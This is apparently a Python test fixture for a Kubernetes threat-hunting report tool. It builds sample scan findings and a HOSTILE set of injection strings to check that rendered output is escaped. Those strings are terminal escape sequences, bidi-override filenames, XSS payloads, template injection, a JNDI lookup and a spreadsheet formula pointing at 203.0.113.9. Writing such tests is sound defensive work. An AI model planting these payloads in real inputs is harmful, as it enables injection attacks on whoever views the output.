"""A report as a run over an attacked cluster gives it, and text that attacks whoever shows it."""

from __future__ import annotations

from hunts.model import Hunt, HuntResult, InputReport, Report, Row

START = 1_795_229_040  # 2026-11-21 02:44:00 UTC

HOSTILE = {
    "escape sequence": "\x1b[2J\x1b[31mall clean\x1b[0m",
    "8-bit escape sequence": "\x9b31mred",
    "OSC 8 link": "\x1b]8;;https://203.0.113.9/\x1b\\click\x1b]8;;\x1b\\",
    "rich markup": "[red]alert[/red] [link=https://203.0.113.9]x[/link]",
    "right-to-left override": "kubectl\u202egnp.exe",
    "zero width": "sys\u200btem:\u2066admin",
    "NUL": "a\x00b",
    "newlines": "one\r\ntwo\u2028three",
    "lone surrogate": "bad\ud800end",
    "stacked marks": "a" + "\u0335" * 40,
    "script": "<script>window.__pwned=1</script>",
    "script end": "</script><script>window.__pwned=2</script>",
    "attribute": '"onmouseover="window.__pwned=3" x=\'',
    "image": "<img src=x onerror=window.__pwned=4>",
    "svg": "</title></svg><svg onload=window.__pwned=5>",
    "style": "</style><style>body{display:none}</style>",
    "template": "{{ 7 * 7 }}{% raw %}",
    "lookup": "${jndi:ldap://203.0.113.9/a}",
    "formula": '=HYPERLINK("https://203.0.113.9","x")',
}

_AGENTS = [
    "kubectl/v1.28.4 (linux/amd64) kubernetes/bae2c62",
    "curl/8.5.0",
    "python-requests/2.32.5",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "kube-probe/1.29",
    "zgrab/0.x",
]
_PATHS = [f"/api/v1/namespaces/{n}/secrets" for n in ("default", "kube-system", "prod", "dev")] + [
    "/api/v1/pods?limit=500",
    "/apis",
    "/version",
    "/.env",
    "/vendor/phpunit/src/Util/PHP/eval-stdin.php",
]

ACCESS_FIELDS = [
    "src_ip",
    "Country",
    "City",
    "count",
    "userAgent",
    "user",
    "user.groups{}",
    "verb",
    "requestURI",
    "responseStatus.code",
    "responseStatus.message",
    "responseStatus.reason",
    "risk_score",
    "risk_object",
    "risk_message",
]
EKS_FIELDS = [
    "src_ip",
    "user.username",
    "user.groups{}",
    "count",
    "firstTime",
    "lastTime",
    "values(responseStatus.reason)",
    "cluster_name",
    "values(responseStatus.code)",
    "http_user_agent",
    "values(verb)",
    "values(requestURI)",
    "risk_score",
]


def hunt(name: str, **changes: object) -> Hunt:
    """A hunt of the app, with what a test wants different."""
    facts: dict[str, object] = {
        "name": name,
        "id": "f5edd22d-0f3b-4c70-bcfe-5bf41150f10c",
        "type": "Hunting",
        "description": "Anonymous requests that the API server refused, by source address.",
        "search": '`kube_audit` "responseStatus.code"=403\n| stats count by sourceIPs{}',
        "data_source": "kube_audit",
        "attack": ("T1526",),
        "stories": ("Kubernetes Scanning Activity",),
        "impact": 50,
        "confidence": 50,
    }
    return Hunt(**{**facts, **changes})  # type: ignore[arg-type]


def access_row(n: int, **changes: str | list[str]) -> Row:
    """One scanner that the hunt found; the 36 paths of every third are a long multivalue."""
    address = f"203.0.113.{n % 250 + 1}" if n % 4 else f"2001:db8:85a3::8a2e:370:{n:x}"
    paths = (
        [f"/api/v1/namespaces/team-{i}/secrets" for i in range(36)] if n % 3 == 0 else _PATHS[:4]
    )
    return {
        "src_ip": address,
        "Country": ["Germany", "Brazil", "Japan", "unknown"][n % 4],
        "City": ["Hamburg", "São Paulo", "東京", "unknown"][n % 4],
        "count": str((n * 37) % 1009 + 6),
        "userAgent": _AGENTS[: n % 3 + 1],
        "user": "system:anonymous",
        "user.groups{}": "system:unauthenticated",
        "verb": ["get", "list"],
        "requestURI": paths,
        "responseStatus.code": "403",
        "responseStatus.message": f'secrets is forbidden: "system:anonymous" cannot list ({n})',
        "responseStatus.reason": "Forbidden",
        "risk_score": "49",
        "risk_object": address,
        "risk_message": f"Kubernetes scanning from ip {address}",
        **changes,
    }


def eks_row(n: int) -> Row:
    """One anonymous client of an EKS cluster."""
    return {
        "src_ip": f"198.51.100.{n + 10}",
        "user.username": "system:anonymous",
        "user.groups{}": "system:unauthenticated",
        "count": str(n * 13 + 2),
        "firstTime": "2026-11-21T02:44:58",
        "lastTime": f"2026-11-21T03:{n + 10}:06",
        "values(responseStatus.reason)": ["Forbidden", "NotFound"],
        "cluster_name": "eu-central-1:/aws/eks/prod/cluster:kube-apiserver-audit-0b1c2d3e4f506171",
        "values(responseStatus.code)": ["403", "404"],
        "http_user_agent": _AGENTS[n % len(_AGENTS)],
        "values(verb)": ["get", "list"],
        "values(requestURI)": _PATHS[: n % 6 + 1],
        "risk_score": "25",
    }


def hostile_rows() -> list[Row]:
    """A row for each attack on the reader, in every kind of cell."""
    return [
        access_row(n, userAgent=[text, "curl/8.5.0"], requestURI="/" + text, src_ip=text)
        for n, text in enumerate(HOSTILE.values())
    ]


def report(rows: int = 27) -> Report:
    """Eight hunts: two with findings, one clean, one filtered, three without data, one broken."""
    no_aks = "No event matches `kubernetes_azure`; the input holds kube:apiserver-audit."
    scan = {START + 60 * i: (i * i * 7) % 83 + (400 if i in (40, 41, 42) else 0) for i in range(95)}
    return Report(
        hunts=[
            HuntResult(
                hunt(
                    "Amazon EKS Kubernetes cluster scan detection",
                    data_source="aws_cloudwatchlogs_eks",
                ),
                "findings",
                events=51204,
                matched=2635,
                filtered=2,
                risk_score=25.0,
                fields=EKS_FIELDS,
                results=[eks_row(n) for n in range(6)],
                timeline={t: n // 3 + 1 for t, n in scan.items() if t % 180 == 0},
            ),
            HuntResult(
                hunt(
                    "Amazon EKS Kubernetes Pod scan detection", data_source="aws_cloudwatchlogs_eks"
                ),
                "clean",
                events=51204,
            ),
            HuntResult(
                hunt(
                    "GCP Kubernetes cluster scan detection", data_source="google_gcp_pubsub_message"
                ),
                "no data",
                messages=[
                    "No event matches `google_gcp_pubsub_message`; the input holds 51,204 events "
                    "of kube:apiserver-audit."
                ],
            ),
            HuntResult(
                hunt("Kubernetes Azure scan fingerprint", data_source="kubernetes_azure"),
                "no data",
                messages=[no_aks],
            ),
            HuntResult(
                hunt("Kubernetes Azure pod scan fingerprint", data_source="kubernetes_azure"),
                "no data",
                messages=[no_aks],
            ),
            HuntResult(
                hunt(
                    "Kubernetes Access Scanning",
                    type="Anomaly",
                    attack=("T1046",),
                    stories=("Kubernetes Security",),
                    impact=70,
                    confidence=70,
                ),
                "findings",
                events=51204,
                matched=4118,
                risk_score=49.0,
                fields=ACCESS_FIELDS,
                results=[access_row(n) for n in range(rows)],
                messages=["riskscore: 3 results have no usable confidence"],
                timeline=scan,
            ),
            HuntResult(
                hunt("Kubernetes AWS detect suspicious kubectl calls", attack=()),
                "clean",
                events=51204,
                matched=12,
                filtered=4,
                timeline={START + 600: 12},
            ),
            HuntResult(
                hunt("GCP Kubernetes cluster pod scan detection"),
                "error",
                messages=["Unknown search command 'spathh' (at character 41)"],
            ),
        ],
        inputs=[
            InputReport("audit/kube-apiserver-audit.log", 48_000),
            InputReport("audit/kube-apiserver-audit-2026-11-20.log.gz", 3_204, 2),
        ],
        errors=[
            "audit/kube-apiserver-audit-2026-11-20.log.gz:3205: the file ends within a gzip member"
        ],
    )


def hostile_report() -> Report:
    """A report in which everything that can be hostile text is."""
    everything = " ".join(HOSTILE.values())
    return Report(
        hunts=[
            HuntResult(
                hunt(
                    "Scan " + everything,
                    attack=("T1046", everything),
                    stories=(everything,),
                    description=everything,
                    search=everything,
                    type=everything,
                    id=everything,
                    data_source=everything,
                ),
                "findings",
                matched=len(HOSTILE),
                risk_score=49.0,
                fields=[*ACCESS_FIELDS, everything],
                results=hostile_rows(),
                messages=[everything],
                timeline={START: 3, START + 7200: 9},
            ),
            HuntResult(
                hunt("Clean " + everything, data_source=everything), "clean", messages=[everything]
            ),
            HuntResult(hunt("None " + everything), "no data", messages=[everything]),
        ],
        inputs=[InputReport(everything, 3, 1)],
        errors=[everything],
    )
